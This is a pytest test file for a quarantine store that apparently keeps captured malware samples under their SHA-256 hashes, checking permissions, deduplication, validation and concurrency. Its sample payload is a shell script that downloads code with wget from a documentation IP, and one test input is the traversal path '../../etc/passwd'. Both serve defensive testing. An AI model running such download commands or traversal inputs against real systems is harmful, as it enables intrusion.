from __future__ import annotations

import hashlib
import os
import resource
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from urltrap.machine.effects import Content
from urltrap.quarantine import (
    ArtifactMissingError,
    ArtifactTooLargeError,
    InvalidDigestError,
    Quarantine,
    QuarantineError,
    QuarantineFullError,
)

PAYLOAD = b"#!/bin/sh\nwget http://203.0.113.7/x\n"
SHA256 = hashlib.sha256(PAYLOAD).hexdigest()


@pytest.fixture
def quarantine(tmp_path: Path) -> Quarantine:
    return Quarantine(tmp_path / "quarantine")


def files(quarantine: Quarantine) -> list[Path]:
    return [path for path in quarantine.directory.rglob("*") if path.is_file()]


def test_a_payload_is_kept_under_its_hash_with_all_hashes_told(quarantine: Quarantine) -> None:
    artifact = quarantine.put(PAYLOAD)

    assert artifact.sha256 == SHA256
    assert artifact.md5 == hashlib.md5(PAYLOAD).hexdigest()
    assert artifact.sha1 == hashlib.sha1(PAYLOAD).hexdigest()
    assert artifact.size == len(PAYLOAD)
    assert artifact.complete
    assert files(quarantine) == [quarantine.directory / SHA256[:2] / SHA256[2:4] / SHA256]


def test_nothing_in_the_quarantine_is_executable_or_readable_by_others(quarantine: Quarantine) -> None:
    before = os.umask(0)
    try:
        quarantine.put(PAYLOAD)
    finally:
        os.umask(before)

    for path in [quarantine.directory, *quarantine.directory.rglob("*")]:
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o400), path


def test_a_folder_that_was_open_to_others_is_closed(tmp_path: Path) -> None:
    (tmp_path / "quarantine").mkdir(mode=0o755)

    quarantine = Quarantine(tmp_path / "quarantine")

    assert stat.S_IMODE(quarantine.directory.stat().st_mode) == 0o700


def test_the_same_payload_twice_is_one_artifact(quarantine: Quarantine) -> None:
    first = quarantine.put(PAYLOAD)
    kept_at = quarantine.stat(SHA256).kept_at

    assert quarantine.put(PAYLOAD) == first
    assert len(files(quarantine)) == 1
    assert quarantine.stat(SHA256).kept_at == kept_at


def test_a_shortened_artifact_is_replaced_when_its_payload_comes_again(quarantine: Quarantine) -> None:
    quarantine.put(PAYLOAD)
    (path,) = files(quarantine)
    path.chmod(0o600)
    path.write_bytes(PAYLOAD[:5])
    assert not quarantine.verify(SHA256)

    quarantine.put(PAYLOAD)

    assert quarantine.verify(SHA256)


@given(chunks=st.lists(st.binary(max_size=300), max_size=8))
def test_chunks_make_the_same_artifact_as_the_whole(
    tmp_path_factory: pytest.TempPathFactory, chunks: list[bytes]
) -> None:
    quarantine = Quarantine(tmp_path_factory.getbasetemp() / "chunks")
    with quarantine.writer() as writer:
        for chunk in chunks:
            writer.write(chunk)
        artifact = writer.commit()

    assert artifact == quarantine.put(b"".join(chunks))
    with quarantine.open(artifact.sha256) as file:
        assert file.read() == b"".join(chunks)


def test_an_aborted_or_failed_writer_leaves_nothing(quarantine: Quarantine) -> None:
    writer = quarantine.writer()
    writer.write(PAYLOAD)
    writer.abort()
    writer.abort()
    with pytest.raises(RuntimeError), quarantine.writer() as writer:
        writer.write(PAYLOAD)
        raise RuntimeError("the sender is gone")

    assert files(quarantine) == []
    with pytest.raises(QuarantineError, match="take a new writer"):
        writer.write(b"more")


def test_the_beginning_of_a_payload_over_the_limit_can_be_kept_as_incomplete(quarantine: Quarantine) -> None:
    with quarantine.writer(limit=10) as writer:
        writer.write(b"123456")
        with pytest.raises(ArtifactTooLargeError, match="10 bytes"):
            writer.write(b"7890AB")
        artifact = writer.commit()

    assert not artifact.complete
    assert artifact.sha256 == hashlib.sha256(b"1234567890").hexdigest()
    assert quarantine.verify(artifact.sha256)


def test_a_payload_of_exactly_the_limit_is_complete(quarantine: Quarantine) -> None:
    with quarantine.writer(limit=len(PAYLOAD)) as writer:
        writer.write(PAYLOAD)
        assert writer.commit().complete


@pytest.mark.parametrize(
    "name",
    [
        "",
        "../../etc/passwd",
        SHA256.upper(),
        SHA256[:-1],
        SHA256 + "\n",
        SHA256 + "0",
        "/" + SHA256[1:],
        "\0" * 64,
    ],
)
def test_what_is_not_a_hash_names_no_artifact(quarantine: Quarantine, name: str) -> None:
    for ask in (quarantine.open, quarantine.content, quarantine.exists, quarantine.stat, quarantine.verify):
        with pytest.raises(InvalidDigestError, match="64 digits"):
            ask(name)
    with pytest.raises(InvalidDigestError):
        quarantine.read(name, 0, 1)


def test_an_artifact_that_is_not_there_is_said_to_be_missing(quarantine: Quarantine) -> None:
    assert not quarantine.exists(SHA256)
    for ask in (quarantine.open, quarantine.content, quarantine.stat, quarantine.verify):
        with pytest.raises(ArtifactMissingError, match=SHA256):
            ask(SHA256)


def test_a_symbolic_link_in_place_of_an_artifact_is_not_followed(
    quarantine: Quarantine, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("host key")
    quarantine.put(PAYLOAD)
    (path,) = files(quarantine)
    path.unlink()
    path.symlink_to(secret)

    with pytest.raises(QuarantineError, match="cannot be opened"):
        quarantine.read(SHA256, 0, 10)


def test_content_is_read_lazily_in_pieces(quarantine: Quarantine) -> None:
    quarantine.put(PAYLOAD)
    content: Content = quarantine.content(SHA256)

    assert content.size == len(PAYLOAD)
    assert content.read(2, 7) == PAYLOAD[2:9]
    assert content.read(len(PAYLOAD) - 1, 100) == b"\n"
    assert content.read(len(PAYLOAD), 1) == content.read(10**12, 1) == b""
    with pytest.raises(ValueError, match="negative"):
        content.read(-1, 1)


def test_all_artifacts_are_listed_and_other_files_are_not(quarantine: Quarantine) -> None:
    shas = {quarantine.put(bytes([number])).sha256 for number in range(20)}
    (quarantine.directory / "README").write_text("not an artifact")
    writer = quarantine.writer()
    writer.write(b"in the making")

    listed = list(quarantine.iter())
    writer.abort()

    assert [artifact.sha256 for artifact in listed] == sorted(shas)
    assert {artifact.size for artifact in listed} == {1}


def test_a_changed_byte_is_noticed(quarantine: Quarantine) -> None:
    quarantine.put(PAYLOAD)
    assert quarantine.verify(SHA256)
    (path,) = files(quarantine)
    path.chmod(0o600)
    path.write_bytes(PAYLOAD.replace(b"7", b"8"))

    assert not quarantine.verify(SHA256)


def test_what_a_killed_writer_left_is_swept_and_a_living_one_is_spared(quarantine: Quarantine) -> None:
    dead, living = quarantine.writer(), quarantine.writer()
    dead.write(b"dead")
    living.write(b"living")
    old = next(path for path in files(quarantine) if path.stat().st_size == 4)
    os.utime(old, (1, 1))

    assert quarantine.sweep(now=time.time()) == 1
    assert living.commit().size == 6
    dead.abort()


def test_several_processes_put_the_same_payloads_at_once(quarantine: Quarantine) -> None:
    code = (
        "import sys; from pathlib import Path; from urltrap.quarantine import Quarantine\n"
        "quarantine = Quarantine(Path(sys.argv[1])); sys.stdin.readline()\n"
        "for number in range(30): quarantine.put(str(number).encode() * 50)\n"
    )
    command = [sys.executable, "-c", code, str(quarantine.directory)]
    processes = [subprocess.Popen(command, stdin=subprocess.PIPE) for _ in range(3)]
    for process in processes:
        process.communicate(b"go\n", timeout=60)

    assert [process.returncode for process in processes] == [0, 0, 0]
    listed = list(quarantine.iter())
    assert len(listed) == len(files(quarantine)) == 30
    assert all(quarantine.verify(artifact.sha256) for artifact in listed)


def test_no_room_on_the_disk_is_a_typed_error_and_leaves_nothing(quarantine: Quarantine) -> None:
    quarantine.put(PAYLOAD)
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, before[1]))
    try:
        with pytest.raises(QuarantineFullError, match="free space"):
            quarantine.put(bytes(10_000))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)

    assert [path.name for path in files(quarantine)] == [SHA256]
    assert quarantine.put(bytes(10_000)).size == 10_000


def test_nothing_is_put_where_less_than_the_reserve_is_free(tmp_path: Path) -> None:
    careful = Quarantine(tmp_path / "quarantine", reserve=1 << 62)
    with pytest.raises(QuarantineFullError, match="kept in reserve.*free some room"):
        careful.put(PAYLOAD)
    assert files(careful) == []
    assert Quarantine(tmp_path / "quarantine", reserve=1).put(PAYLOAD).sha256 == SHA256
